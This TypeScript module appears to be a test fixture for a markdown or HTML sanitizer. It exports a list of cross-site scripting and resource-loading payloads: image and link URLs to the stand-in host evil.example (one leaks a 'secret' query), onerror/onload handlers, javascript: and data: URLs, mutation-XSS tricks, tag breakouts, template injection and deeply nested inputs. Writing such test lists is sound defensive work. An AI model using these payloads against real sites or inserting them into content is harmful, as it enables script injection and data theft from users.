/**
 * Texts that load something from another host, run a script or break out of what holds them, where they are taken for
 * anything but text. A script among them that runs sets `__pwned`.
 */
export const payloads: readonly string[] = [
  "![x](http://evil.example/image.png?q=secret)",
  "![x][pixel] [pixel]: http://evil.example/reference.png",
  "<http://evil.example/autolink>",
  "http://evil.example/bare www.evil.example",
  "[read on](http://evil.example/link)",
  '<img src="http://evil.example/element.png">',
  "<img src=x onerror=window.__pwned=1>",
  '<img srcset="http://evil.example/set.png 1x">',
  "<svg onload=window.__pwned=1><use href=http://evil.example/a.svg#a /></svg>",
  '<p style="background:url(http://evil.example/style.png)">x</p>',
  "<style>@import 'http://evil.example/import.css'; *{background:url(http://evil.example/rule.png)}</style>",
  '<link rel="prefetch" href="http://evil.example/prefetch"><link rel="dns-prefetch" href="//evil.example">',
  "[a](data:text/html,<script>window.__pwned=1</script>)",
  "[a](javascript:window.__pwned=1)",
  "[a](java\tscript:window.__pwned=1) [b](JaVaScRiPt&colon;window.__pwned=1)",
  '<a href="/" ping="http://evil.example/ping" onclick="window.__pwned=1">a</a>',
  "<script>window.__pwned=1</script><script src=http://evil.example/script.js></script>",
  '"><script>window.__pwned=1</script>',
  "</textarea></title></style></script><script>window.__pwned=1</script>",
  '<iframe src="http://evil.example/frame"></iframe><iframe srcdoc="<script>top.__pwned=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
  "<base href=http://evil.example/><meta http-equiv=refresh content='0;url=http://evil.example/refresh'>",
  "[a](x]()<img src=x onerror=window.__pwned=1>",
  "`</code><img src=x onerror=window.__pwned=1>`",
  "{{constructor.constructor('window.__pwned=1')()}} <%= 1 %>",
  `${"[".repeat(200)}a${"](http://evil.example/deep)".repeat(200)}`,
  `${"> ".repeat(200)}${"<b>".repeat(200)}${"**".repeat(200)}a`,
];
